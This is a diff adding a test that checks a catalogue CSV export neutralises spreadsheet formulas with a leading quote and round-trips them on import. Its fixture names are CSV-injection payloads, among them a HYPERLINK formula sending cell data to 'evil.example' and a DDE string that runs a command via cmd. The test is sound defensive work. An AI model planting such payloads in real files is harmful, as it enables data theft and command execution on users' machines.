@@ -72,6 +72,35 @@ describe('the catalogue CSV export', () => {
     expect(records.some((row) => row.sku === 'ETT-TEE')).toBe(false)
   })
 
+  it('writes a cell a spreadsheet would run as a formula with a leading quote, and imports it back as it was', async () => {
+    const names = [
+      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "'=quoted already",
+    ]
+    const res = await importCsv(
+      [
+        HEADER,
+        ...names.map(
+          (name, i) => `formula-${i},"${name.replaceAll('"', '""')}",draft,,FORMULA-${i},,5.00,,1`,
+        ),
+      ].join('\n'),
+    )
+    expect(res.statusCode, res.body).toBe(200)
+    // A name that starts with a quote already, as the product form may save it.
+    await t.ctx.db.updateTable('products').set({ name: names[2]! }).where('sku', '=', 'FORMULA-2').execute()
+    const csv = await exported()
+    const records = parse(csv, { columns: true }) as Record<string, string>[]
+    expect(names.map((_, i) => records.find((row) => row.sku === `FORMULA-${i}`)?.product_name)).toEqual(
+      names.map((name) => `'${name}`),
+    )
+    const again = await importCsv(csv)
+    expect(again.statusCode, again.body).toBe(200)
+    expect(await Promise.all(names.map(async (_, i) => (await rowBySku(`FORMULA-${i}`))?.name))).toEqual(
+      names,
+    )
+  })
+
   it('imports back unchanged: nothing moves', async () => {
     const before = await snapshot()
     const res = await importCsv(await exported())
